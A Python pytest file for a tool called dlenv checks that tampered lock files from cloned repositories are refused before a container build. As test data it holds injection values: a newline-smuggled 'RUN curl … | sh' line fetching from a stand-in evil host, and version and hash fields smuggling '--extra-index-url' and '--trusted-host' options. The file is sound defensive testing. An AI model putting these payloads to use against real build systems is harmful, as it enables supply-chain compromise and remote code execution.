"""Issue 11: a hostile dlenv.lock (from a cloned repository) never reaches the build context.

Each attack is a lock beside a real spec; `dlenv lock --check` and `dlenv render` (the same
open_project path as build, up and push) must refuse it: exit 2 for a value dlenv never writes
or a lock edited by hand, exit 1 ("stale") for a well-formed lock that is not the spec's. The
rendered build context must never be written.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from dlenv.cli import run
from dlenv.errors import UsageError
from dlenv.lock import Lock, dumps, write_lock
from dlenv.lock.locate import StaleLockError, lock_for_build
from dlenv.resolve import resolve
from tests.support.context import make_context
from tests.support.fakes import FakeRunner
from tests.support.index_config import index_url, uv_answers
from tests.support.locks import FIXTURE_SPEC, fixture_lock
from tests.unit.lock.test_stale import spec

EVIL = index_url("evil", scheme="http")


def project(tmp_path: Path, lock_text: str) -> Path:
    (tmp_path / "dlenv.toml").write_text(FIXTURE_SPEC)
    (tmp_path / "dlenv.lock").write_text(lock_text)
    return tmp_path


def commands(tmp_path: Path) -> tuple[int, int]:
    """Exit codes of `lock --check` and `render`; render must have written nothing."""
    runner = FakeRunner(responses=uv_answers(), programs={"podman": "/usr/bin/podman"})
    ctx = make_context(tmp_path, runner)
    codes = run(["lock", "--check"], ctx), run(["render", "--out", "out"], ctx)
    assert not (tmp_path / "out").exists()  # no Containerfile, no lock-*.txt: render refused
    return codes


def edited(old: str, new: str) -> str:
    """The fixture lock's file with one value replaced, as an attacker would write it."""
    text = dumps(fixture_lock())
    assert old in text
    return text.replace(old, new, 1)


def test_the_untouched_lock_renders(tmp_path: Path) -> None:
    """The control: the same project with the lock `dlenv lock` wrote builds from it."""
    project(tmp_path, dumps(fixture_lock()))
    runner = FakeRunner(responses=uv_answers(), programs={"podman": "/usr/bin/podman"})
    ctx = make_context(tmp_path, runner)
    assert run(["lock", "--check"], ctx) == 0
    assert run(["render", "--out", "out"], ctx) == 0
    assert (tmp_path / "out" / "lock-extra.txt").is_file()


def test_a_newline_in_a_layer_name_is_refused(tmp_path: Path) -> None:
    # Would render `# extra` + a RUN line of the attacker's in the Containerfile.
    payload = index_url("evil", "/x", scheme="http")
    text = edited('name = "extra"', 'name = "extra\\nRUN curl ' + payload + ' | sh\\n#"')
    assert commands(project(tmp_path, text)) == (2, 2)


def test_a_version_that_adds_an_index_is_refused(tmp_path: Path) -> None:
    # Would put `--extra-index-url` into lock-core.txt, which uv reads as an option.
    text = edited('version = "1.3.3"', f'version = "1.3.3 --extra-index-url {EVIL}"')
    assert commands(project(tmp_path, text)) == (2, 2)


def test_a_version_on_its_own_line_is_refused(tmp_path: Path) -> None:
    text = edited('version = "1.3.3"', rf'version = "1.3.3\n--extra-index-url {EVIL}"')
    assert commands(project(tmp_path, text)) == (2, 2)


def test_a_hostile_index_with_the_right_input_digest_is_stale(tmp_path: Path) -> None:
    """Well-formed, with the spec's own input digest and a content digest to match: still not
    the spec's resolution, because the indexes are compared, not only the digest."""
    lock = replace(fixture_lock(), extra_index_urls=(EVIL,))
    assert lock.input_digest == fixture_lock().input_digest
    assert commands(project(tmp_path, dumps(lock))) == (1, 1)
    with pytest.raises(StaleLockError) as caught:
        lock_for_build(tmp_path / "dlenv.lock", resolve(spec()))
    assert caught.value.details == (
        f"- package indexes changed (CUDA variant or groups): {EVIL} -> (none)\n"
        "- the lock's input digest matches the spec but its inputs do not "
        "(was it edited by hand?)"
    )


def test_a_hostile_layer_with_the_right_input_digest_is_stale(tmp_path: Path) -> None:
    lock = fixture_lock()
    extra = lock.layers[2]
    evil = replace(extra, requirements=(*extra.requirements, "evil-package"))
    hostile = replace(lock, layers=(*lock.layers[:2], evil))
    assert commands(project(tmp_path, dumps(hostile))) == (1, 1)
    reordered = replace(lock, layers=(lock.layers[1], lock.layers[0], lock.layers[2]))
    write_lock(tmp_path / "dlenv.lock", reordered)
    with pytest.raises(StaleLockError, match="stale"):
        lock_for_build(tmp_path / "dlenv.lock", resolve(spec()))


def test_a_bad_hash_is_refused(tmp_path: Path) -> None:
    text = edited('"sha256:023b', '"sha256:023b --trusted-host evil.test ')
    assert commands(project(tmp_path, text)) == (2, 2)


def test_an_edited_pin_is_reported_as_edited_by_hand(tmp_path: Path) -> None:
    """A valid version, another than the resolve chose: the content digest no longer matches."""
    text = edited('version = "1.3.3"', 'version = "1.3.2"')
    assert commands(project(tmp_path, text)) == (2, 2)
    with pytest.raises(UsageError, match="was edited by hand") as caught:
        lock_for_build(tmp_path / "dlenv.lock", resolve(spec()))
    assert caught.value.exit_code == 2
    assert "dlenv lock" in (caught.value.hint or "")


def test_an_edited_hash_is_reported_as_edited_by_hand(tmp_path: Path) -> None:
    text = edited('"sha256:023b', '"sha256:123b')
    project(tmp_path, text)
    with pytest.raises(UsageError, match="was edited by hand"):
        lock_for_build(tmp_path / "dlenv.lock", resolve(spec()))


def test_no_lock_object_with_a_hostile_value_can_be_made() -> None:
    """Render takes a Lock, and every Lock is checked when made (replace included)."""
    lock = fixture_lock()
    package = lock.layers[0].packages[0]
    with pytest.raises(UsageError):
        replace(lock.layers[2], name="extra\nRUN id")
    with pytest.raises(UsageError):
        replace(package, version=f"1.3.3 --extra-index-url {EVIL}")
    with pytest.raises(UsageError):
        replace(package, hashes=("sha256:00",))
    with pytest.raises(UsageError):
        replace(lock, extra_index_urls=(f"{EVIL}\nRUN id",))
    assert isinstance(replace(lock, extra_index_urls=(EVIL,)), Lock)  # well-formed: stale.py


def test_dlenv_lock_replaces_a_lock_it_cannot_read(tmp_path: Path) -> None:
    """The fix the errors name must work: `dlenv lock` does not trust, or choke on, the old one."""
    from dlenv.environment.locking import previous_lock

    project(tmp_path, edited('version = "1.3.3"', 'version = "1.3.2"'))
    assert previous_lock(tmp_path / "dlenv.lock") is None
    project(tmp_path, dumps(fixture_lock()))
    assert previous_lock(tmp_path / "dlenv.lock") == fixture_lock()
